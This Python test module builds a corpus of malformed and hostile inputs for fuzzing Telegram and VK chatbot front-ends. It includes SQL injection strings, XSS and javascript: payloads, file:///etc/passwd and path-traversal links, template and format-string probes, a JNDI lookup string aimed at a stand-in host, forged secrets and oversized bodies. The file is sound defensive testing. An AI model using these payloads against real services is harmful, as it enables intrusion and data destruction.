"""The bad-input corpus: what people, broken clients and attackers send the bots.

``CASES`` hold what reaches a conversation, replayed through both front-ends:

* ``text``  — a typed message, sent from a conversation in ``state``;
* ``press`` — an engine payload of a pressed button (stale, unknown, forged, hostile);
* ``tg_data`` — raw Telegram callback data (not made by this bot);
* ``vk_payload`` — a raw VK button payload (message_new's JSON string, or message_event's
  object).

Each must get a clear answer and, unless ``changes`` is set, leave the person's stored state as
it was. ``TELEGRAM_BODIES`` and ``VK_BODIES`` are garbage at the transport level — webhook
updates and callback bodies with wrong types, broken JSON, forged secrets — which must be
refused cleanly (or ignored) without touching the database.

States a conversation is put in before its cases (see ``PRIMING``): ``menu`` (after /start),
``link`` (the public check waits for a link), ``number`` (the results form waits for a sum) and
``checklist`` (question 1 of the readiness checklist).
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from typing import Any, Literal

Kind = Literal["text", "press", "tg_data", "vk_payload"]
State = Literal["menu", "link", "number", "checklist"]

# Engine payloads (button presses) that bring a new conversation to each state.
PRIMING: dict[str, list[str]] = {
    "menu": [],
    "link": ["s:check", "g:check:link"],
    "number": ["s:results", "g:results:numbers"],
    "checklist": [
        "s:prepare",
        "a:profile:type:0:commercial",
        "a:profile:goal:0:sales_any_region",
        "g:prepare:checklist",
    ],
}


@dataclass(frozen=True)
class Case:
    name: str
    kind: Kind
    value: Any
    state: State = "menu"
    changes: bool = False  # a valid effect is allowed (the input is odd, not wrong)


@dataclass(frozen=True)
class Body:
    """A transport-level request: ``raw`` bytes as they are, or ``json`` serialised."""

    name: str
    json: Any = None
    raw: bytes | None = None
    # The bot must answer one of these statuses (VK: with "ok" for 200).
    statuses: tuple[int, ...] = (400,)
    content_type: str = "application/json"
    secret: bool = True  # send the right secret (header or field) along

    def data(self) -> bytes:
        if self.raw is not None:
            return self.raw
        return json.dumps(self.json).encode()


def _texts() -> list[Case]:
    cases: list[Case] = []

    def add(name: str, value: str, state: State = "menu", changes: bool = False) -> None:
        cases.append(Case(f"text:{name}", "text", value, state, changes))

    # Broken and hostile links: in the main menu (links start a check) and at the link step.
    links = {
        "bare_domain": "vk.com/",
        "bare_domain_https": "https://vk.com",
        "percent_null": "https://vk.com/%00",
        "percent_garbage": "https://vk.com/%zz%",
        "javascript": "javascript:alert(document.cookie)",
        "data_url": "data:text/html,<script>alert(1)</script>",
        "file_url": "file:///etc/passwd",
        "ftp": "ftp://vk.com/club1",
        "userinfo": "https://user:password@vk.com/club1",
        "port": "https://vk.com:99999/club1",
        "evil_host": "https://evil.example/vk.com/club1",
        "lookalike": "https://vk.com.evil.example/club1",
        "cyrillic_host": "https://вк.ком/клуб1",
        "idn_punycode": "https://xn--j1ay.xn--j1aef/club1",
        "club_negative": "vk.com/club-1",
        "club_zero": "vk.com/club0",
        "club_huge": "vk.com/club99999999999999999999999999",
        "public_huge": "https://vk.com/public1" + "0" * 40,
        "event_id": "vk.com/event-5",
        "wall_garbage": "https://vk.com/wall-1_abc",
        "wall_huge": "https://vk.com/wall-99999999999999999999_1",
        "dots": "https://vk.com/../../etc/passwd",
        "query_only": "https://vk.com/?w=wall-1_1",
        "fragment": "https://vk.com/#club1",
        "spaces": "https://vk.com/ club 1",
        "tab_inside": "https://vk.com/\tclub1",
        "unicode_name": "vk.com/паблик_😀",
        "rtl_override": "vk.com/\u202eclub1",
        "zero_width": "vk.com/cl\u200bub1",
        "screen_name_long": "vk.com/" + "a" * 300,
        "screen_name_sql": "vk.com/';DROP TABLE users;--",
        "screen_name_html": "vk.com/<script>alert(1)</script>",
        "screen_name_quote": 'vk.com/"onmouseover="alert(1)',
        "many_links": " ".join(f"vk.com/club{n}" for n in range(1, 60)),
        "many_bad_links": " ".join(f"https://vk.com/%{n:02x}" for n in range(40)),
        "m_vk": "https://m.vk.com/",
        "vk_me": "https://vk.me/",
        "vk_cc": "https://vk.cc/abc",
        "http_scheme_only": "http://",
        "triple_slash": "https:///vk.com/club1",
        "backslashes": "https:\\\\vk.com\\club1",
        "mixed_case": "HTTPS://VK.COM/CLUB1%",
        "newline_split": "https://vk.com/\nclub1",
        "at_name": "@",
        "at_sql": "@'; DELETE FROM users; --",
        "app_link": "vk.com/app-1",
        "photo_link": "https://vk.com/photo-1_-1",
        "nested_redirect": "https://vk.com/away.php?to=javascript:alert(1)",
    }
    for name, link in links.items():
        add(f"link_{name}", link, "menu")
        add(f"link_{name}@link", link, "link")

    # Messages of 100 KB and other sizes.
    add("100kb_ascii", "a" * 100_000)
    add("100kb_cyrillic", "я" * 100_000)
    add("100kb_emoji", "😀" * 25_000)
    add("100kb_spaces", " " * 100_000)
    add("100kb_newlines", "\n" * 100_000)
    add("100kb_link", "https://vk.com/" + "a" * 100_000, "link")
    add("100kb_number", "9" * 100_000, "number")
    add("100kb_combining", "a" + "\u0301" * 99_999)
    add("just_over_limit", "б" * 4001)
    add("at_limit", "б" * 4000)

    # Control and unusual characters.
    for code in [*range(0, 32), 127]:
        add(f"control_{code:02x}", f"меню{chr(code)}меню")
    add("only_null", "\x00")
    add("only_controls", "".join(chr(c) for c in range(1, 32)))
    for name, char in {
        "bom": "\ufeff",
        "zero_width_space": "\u200b",
        "zero_width_joiner": "\u200d",
        "rtl_mark": "\u200f",
        "rtl_override": "\u202e",
        "line_separator": "\u2028",
        "paragraph_separator": "\u2029",
        "replacement": "\ufffd",
        "noncharacter": "\uffff",
        "private_use": "\ue000",
        "astral": "\U0001f9ea",
        "tag_chars": "\U000e0041\U000e0042",
    }.items():
        add(f"unicode_{name}", f"{char}меню{char}")
    add("emoji_zwj_family", "👨‍👩‍👧‍👦" * 50)
    add("zalgo", "м" + "\u0336\u0337\u0338" * 300)
    add("empty_after_strip", "   \t  ")

    # Numbers out of range and not numbers, where the form waits for a sum.
    for value in [
        "-1",
        "-0",
        "-100000000000",
        "1e309",
        "1e-309",
        "1e10",
        "NaN",
        "nan",
        "inf",
        "-inf",
        "Infinity",
        "99999999999999999999999999999999",
        "100000001",
        "1" + "0" * 400,
        "0x10",
        "0b101",
        "1_000",
        "1.2.3",
        "1,2,3",
        "--5",
        "+-5",
        "5-",
        "½",
        "Ⅻ",
        "五",
        "1e",
        "e5",
        ".",
        ",",
        "1/0",
        "2**64",
        "9" * 20 + "." + "9" * 20,
        "₽",
        "100 ₽ 200 ₽",
        "-",
        "∞",
        "１２３４５６７８９０１２３",
        "123\x00456",
        "'; DROP TABLE conversations; --",
        "<b>100</b>",
    ]:
        # "-0" is zero, and control characters are dropped from what people type: both are
        # numbers the form may take.
        add(f"number_{value[:24]!r}", value, "number", changes=value in ("-0", "123\x00456"))

    # SQL injection, in the menu and where a number or a link is expected.
    sql = [
        "'; DROP TABLE users; --",
        "1' OR '1'='1",
        "1; DELETE FROM conversations WHERE 1=1; --",
        "admin'--",
        '" OR ""="',
        "Robert'); DROP TABLE users;--",
        "1 UNION SELECT external_id, NULL FROM users --",
        "'; UPDATE users SET goal='hacked'; --",
        "%' AND 1=0 UNION ALL SELECT version() --",
        "\\'; TRUNCATE processed_events; --",
        "$$; DROP TABLE users; $$",
        "'); COPY users TO '/tmp/x'; --",
    ]
    for index, value in enumerate(sql):
        add(f"sql_{index}", value, "menu")
        add(f"sql_{index}@number", value, "number")
    for index, value in enumerate(sql[:4]):
        add(f"sql_{index}@link", value, "link")

    # HTML and markup injection (Telegram parses the bot's HTML: an echo must be escaped).
    html = [
        "<b>жирный</b>",
        "<script>alert(1)</script>",
        "<a href='javascript:alert(1)'>ссылка</a>",
        "</b></i></code>",
        "<b><i>незакрытые",
        "&lt;&gt;&amp;&quot;&#0;&#x110000;",
        "&amp;lt;script&amp;gt;",
        "<tg-spoiler>спойлер</tg-spoiler>",
        "<pre><code class='language-python'>код</code></pre>",
        "<img src=x onerror=alert(1)>",
        "<<<>>>",
        "*bold* _italic_ `code` [link](http://evil.example)",
        "{{7*7}} ${7*7} <%= 7*7 %>",
        "%s%s%s%n%x",
        "{0} {1} {name}",
        "${jndi:ldap://evil.example/a}",
        "\\u0000\\x00",
        "' \" ` ; -- /* */",
    ]
    for index, value in enumerate(html):
        add(f"html_{index}", value, "menu")
    for index, value in enumerate(html[:8]):
        add(f"html_{index}@link", f"vk.com/club1 {value}", "link")
        add(f"html_{index}@number", value, "number")

    # Typed answers in the checklist that are not answers.
    # «yes» and «да» with a stray control character are answers the checklist may take.
    for index, value in enumerate(["да нет", "ДАААА", "1", "yes", "<b>да</b>", "да\x00"]):
        add(f"checklist_{index}", value, "checklist", changes=value in ("yes", "да\x00"))
    return cases


def _presses() -> list[Case]:
    cases: list[Case] = []

    def add(name: str, payload: str, state: State = "menu", changes: bool = False) -> None:
        cases.append(Case(f"press:{name}", "press", payload, state, changes))

    stale_or_unknown = {
        "unknown_scenario": "s:nonexistent",
        "empty_scenario": "s:",
        "scenario_sql": "s:';DROP TABLE users;--",
        "goto_unknown": "g:prepare:nowhere",
        "goto_other_scenario": "g:results:numbers",
        "goto_empty": "g::",
        "answer_out_of_range": "a:prepare:checklist:999:y",
        "answer_negative": "a:prepare:checklist:-1:y",
        "answer_huge": "a:prepare:checklist:99999999999999999999:y",
        "answer_bad_value": "a:prepare:checklist:0:maybe",
        "answer_not_a_number": "a:prepare:checklist:x:y",
        "answer_unknown_checklist": "a:nothing:checklist:0:y",
        "answer_other_step": "a:prepare:checklist:0:y",
        "profile_unknown_type": "a:profile:type:0:evil",
        "profile_index_huge": "a:profile:type:123456789:commercial",
        "only_colons": ":::::",
        "single_colon": ":",
        "one_letter": "x",
        "max_length": "z" * 56,
        "unicode": "s:проверка",
        "emoji": "😀",
        "null_char": "s:\x00",
        "newline": "s:check\n",
        "html": "<b>m</b>",
        "template": "{{7*7}}",
        "percent": "%s%n",
        "back_twice": "b",
        "resume": "r",
        "track_garbage": "t:x:y:z",
        "contest_garbage": "c:'; --",
        "audit_garbage": "au:<script>",
        "skip_nothing": "k",
    }
    # A real button's payload with a stray newline: a valid press that may move.
    for name, payload in stale_or_unknown.items():
        if name != "back_twice":
            add(name, payload, "menu", changes=name == "newline")
    # «Back» pressed again and again, past the start of the form: it moves, and never breaks.
    add("back_twice@number", "b", "number", changes=True)
    for name in ("answer_out_of_range", "answer_bad_value", "goto_unknown", "only_colons", "x"):
        payload = stale_or_unknown.get(name, "x")
        add(f"{name}@checklist", payload, "checklist")
        add(f"{name}@number", payload, "number")
    return cases


def _telegram_data() -> list[Case]:
    """Callback data this bot never made (Telegram allows 1-64 bytes; forged ones may not)."""
    values = {
        "foreign_prefix": "other:thing",
        "prefix_only": "e",
        "prefix_colon": "e:",
        "e_unknown": "e:s:nowhere",
        "e_sql": "e:'; DROP TABLE users; --",
        "e_html": "e:<b>x</b>",
        "e_too_long": "e:" + "x" * 200,
        "too_long": "y" * 300,
        "spaces": "   ",
        "unicode": "кнопка",
        "emoji": "😀😀😀",
        "json": '{"p": "m"}',
        "null_char": "e:\x00",
        "e_stale_answer": "e:a:prepare:checklist:0:y",
        "e_page": "e:pg:999",
    }
    return [Case(f"tg_data:{name}", "tg_data", value) for name, value in values.items()]


def _vk_payloads() -> list[Case]:
    """Button payloads as VK delivers them: a JSON string in message_new (any client or API
    caller can send one), an object in message_event."""
    strings = {
        "not_json": "{not json",
        "truncated": '{"p": "m"',
        "array": "[1, 2, 3]",
        "string": '"m"',
        "number": "42",
        "null": "null",
        "p_number": '{"p": 123}',
        "p_null": '{"p": null}',
        "p_object": '{"p": {"p": "m"}}',
        "p_list": '{"p": ["m"]}',
        "p_empty": '{"p": ""}',
        "p_too_long": json.dumps({"p": "x" * 200}),
        "p_unknown": '{"p": "s:nowhere"}',
        "p_sql": json.dumps({"p": "'; DROP TABLE users; --"}),
        "page_string": '{"pg": "x"}',
        "page_negative": '{"pg": -5}',
        "page_huge": '{"pg": 100000000000000000000}',
        "page_float": '{"pg": 1.5}',
        "page_bool": '{"pg": true}',
        "command_other": '{"command": "not_start"}',
        "deep_nesting": "[" * 5000 + "]" * 5000,
        "huge_string": json.dumps({"p": "я" * 5000}),
        "unicode_escape": '{"p": "\\ud800"}',
        "duplicate_keys": '{"p": "m", "p": "s:nowhere"}',
        "bom": "\ufeff{}",
    }
    objects: dict[str, Any] = {
        "event_empty": {},
        "event_p_number": {"p": 1},
        "event_p_unknown": {"p": "s:nowhere"},
        "event_p_stale": {"p": "a:prepare:checklist:0:y"},
        "event_page_negative": {"pg": -1},
        "event_page_huge": {"pg": 10**30},
        "event_nested": {"p": {"p": {"p": "m"}}},
        "event_sql": {"p": "1' OR '1'='1"},
    }
    cases = [Case(f"vk_payload:{n}", "vk_payload", v) for n, v in strings.items()]
    cases += [Case(f"vk_payload:{n}", "vk_payload", v) for n, v in objects.items()]
    return cases


CASES: list[Case] = [*_texts(), *_presses(), *_telegram_data(), *_vk_payloads()]


# --- transport level ---------------------------------------------------------------------------

_CHAT = {"id": 555_000_001, "type": "private", "first_name": "X"}
_FROM = {"id": 555_000_001, "is_bot": False, "first_name": "X"}


def _message(**changes: Any) -> dict[str, Any]:
    message: dict[str, Any] = {"message_id": 1, "date": 1_700_000_000, "chat": _CHAT, "from": _FROM}
    message.update(changes)
    return {k: v for k, v in message.items() if v is not None}


def _telegram_bodies() -> list[Body]:
    bad = (400,)
    ignored = (200, 400)  # well-formed enough to be skipped, or refused: either is clean
    bodies = [
        Body("empty", raw=b"", statuses=bad),
        Body("not_json", raw=b"{not json", statuses=bad),
        Body("truncated", raw=b'{"update_id": 1, "message": {', statuses=bad),
        Body("invalid_utf8", raw=b'{"update_id": 1, "x": "\xff\xfe"}', statuses=bad),
        Body("lone_surrogate", raw=b'{"update_id": 9, "message": {"text": "\\ud800"}}'),
        Body(
            "lone_surrogate_in_a_real_message",
            raw=json.dumps({"update_id": 22, "message": _message(text="\ud800")}).encode(),
        ),
        Body("null", json=None, raw=b"null", statuses=bad),
        Body("array", json=[1, 2, 3], statuses=bad),
        Body("string", json="update", statuses=bad),
        Body("number", json=42, statuses=bad),
        Body("empty_object", json={}, statuses=bad),
        Body("update_id_string", json={"update_id": "abc"}, statuses=bad),
        Body("update_id_float", json={"update_id": 1.5}, statuses=bad),
        Body("update_id_huge", json={"update_id": 2**80}, statuses=ignored),
        Body("update_id_negative", json={"update_id": -1}, statuses=ignored),
        Body("update_id_null", json={"update_id": None}, statuses=bad),
        Body("message_string", json={"update_id": 2, "message": "hi"}, statuses=bad),
        Body("message_list", json={"update_id": 3, "message": [1]}, statuses=bad),
        Body("message_no_chat", json={"update_id": 4, "message": _message(chat=None)}),
        Body("chat_string", json={"update_id": 5, "message": _message(chat="x")}),
        Body("chat_id_string", json={"update_id": 6, "message": _message(chat={"id": "x"})}),
        Body("text_number", json={"update_id": 7, "message": _message(text=123)}),
        Body("text_object", json={"update_id": 8, "message": _message(text={"a": 1})}),
        Body("date_string", json={"update_id": 10, "message": _message(date="today")}),
        Body("from_bool", json={"update_id": 11, "message": _message(**{"from": True})}),
        Body(
            "callback_no_from",
            json={"update_id": 12, "callback_query": {"id": "1", "chat_instance": "1"}},
        ),
        Body(
            "callback_data_object",
            json={
                "update_id": 13,
                "callback_query": {"id": "1", "from": _FROM, "chat_instance": "1", "data": {}},
            },
        ),
        Body(
            "entities_garbage",
            json={"update_id": 14, "message": _message(text="/start", entities=[{"x": 1}])},
        ),
        Body("unknown_kind", json={"update_id": 15, "something_new": {"a": 1}}, statuses=(200,)),
        Body("deep_nesting", raw=b'{"update_id": 16, "x": ' + b"[" * 100_000 + b"]" * 100_000),
        Body(
            "huge_body",
            raw=b'{"update_id": 17, "x": "' + b"a" * 2_000_000 + b'"}',
            statuses=(400, 413),
        ),
        Body("wrong_content_type", json={"update_id": 18}, content_type="text/plain", statuses=bad),
        Body(
            "no_secret",
            json={"update_id": 19, "message": _message(text="/start")},
            secret=False,
            statuses=(401,),
        ),
        Body(
            "form_encoded",
            raw=b"update_id=20&message=hi",
            content_type="application/x-www-form-urlencoded",
            statuses=bad,
        ),
        Body("nan", raw=b'{"update_id": NaN}', statuses=bad),
        Body("duplicate_keys", raw=b'{"update_id": 21, "update_id": "x"}', statuses=bad),
    ]
    return bodies


def _vk_bodies(group_id: int) -> list[Body]:
    def event(**changes: Any) -> dict[str, Any]:
        body: dict[str, Any] = {
            "type": "message_new",
            "group_id": group_id,
            "event_id": "f" * 40,
            "v": "5.199",
            "object": {
                "message": {
                    "date": 1_700_000_000,
                    "from_id": 555_000_001,
                    "id": 1,
                    "out": 0,
                    "peer_id": 555_000_001,
                    "text": "меню",
                    "conversation_message_id": 1,
                    "attachments": [],
                    "fwd_messages": [],
                },
                "client_info": {"button_actions": ["text"], "keyboard": True},
            },
        }
        for key, value in changes.items():
            if value is None:
                body.pop(key, None)
            else:
                body[key] = value
        return body

    message = event()["object"]["message"]
    ok, ok_or_bad, forbidden = (200,), (200, 400), (403,)
    bodies = [
        Body("empty", raw=b"", statuses=(400,)),
        Body("not_json", raw=b"{not json", statuses=(400,)),
        Body("invalid_utf8", raw=b'{"type": "\xff"}', statuses=(400,)),
        Body("array", json=[event()], statuses=(400,)),
        Body("string", json="ok", statuses=(400,)),
        Body("null", raw=b"null", statuses=(400,)),
        Body("deep_nesting", raw=b"[" * 100_000 + b"]" * 100_000, statuses=(400,)),
        Body("too_large", raw=b'{"x": "' + b"a" * 400_000 + b'"}', statuses=(413,)),
        Body("no_secret", json=event(), secret=False, statuses=forbidden),
        Body("secret_number", json={**event(), "secret": 12345}, secret=False, statuses=forbidden),
        Body("secret_list", json={**event(), "secret": ["x"]}, secret=False, statuses=forbidden),
        Body("secret_wrong", json={**event(), "secret": "guess"}, secret=False, statuses=forbidden),
        Body("secret_prefix", json={**event(), "secret": "v"}, secret=False, statuses=forbidden),
        Body("group_other", json=event(group_id=group_id + 1), statuses=forbidden),
        Body("group_string", json=event(group_id=str(group_id)), statuses=forbidden),
        Body("group_missing", json=event(group_id=None), statuses=forbidden),
        Body(
            "confirmation_no_secret",
            json={"type": "confirmation", "group_id": group_id},
            secret=False,
            statuses=forbidden,
        ),
        Body("type_unknown", json=event(type="wall_post_new"), statuses=ok),
        Body("type_number", json=event(type=5), statuses=ok),
        Body("type_missing", json=event(type=None), statuses=ok),
        Body("object_missing", json=event(object=None), statuses=ok),
        Body("object_string", json=event(object="x"), statuses=ok),
        Body("object_list", json=event(object=[1]), statuses=ok),
        Body("message_string", json=event(object={"message": "x"}), statuses=ok),
        Body("event_id_missing", json=event(event_id=None), statuses=ok),
        Body("event_id_number", json=event(event_id=5), statuses=ok),
        Body("event_id_empty", json=event(event_id=""), statuses=ok),
        Body(
            "peer_string", json=event(object={"message": {**message, "peer_id": "x"}}), statuses=ok
        ),
        Body(
            "peer_chat",
            json=event(object={"message": {**message, "peer_id": 2_000_000_001}}),
            statuses=ok,
        ),
        Body(
            "peer_other_sender",
            json=event(object={"message": {**message, "from_id": 7}}),
            statuses=ok,
        ),
        Body(
            "peer_negative",
            json=event(object={"message": {**message, "peer_id": -1, "from_id": -1}}),
            statuses=ok,
        ),
        Body("outgoing", json=event(object={"message": {**message, "out": 1}}), statuses=ok),
        Body(
            "message_event_no_user",
            json=event(type="message_event", object={"peer_id": 5, "event_id": "x"}),
            statuses=ok,
        ),
        Body(
            "message_event_wrong_types",
            json=event(
                type="message_event",
                object={"peer_id": "5", "user_id": [], "event_id": 1, "payload": "x"},
            ),
            statuses=ok,
        ),
        Body(
            "wrong_content_type",
            json=event(object=None),
            content_type="text/plain",
            statuses=ok_or_bad,
        ),
    ]
    return bodies


TELEGRAM_BODIES: list[Body] = _telegram_bodies()


def vk_bodies(group_id: int) -> list[Body]:
    return _vk_bodies(group_id)


def count(group_id: int = 1) -> int:
    return len(CASES) + len(TELEGRAM_BODIES) + len(vk_bodies(group_id))
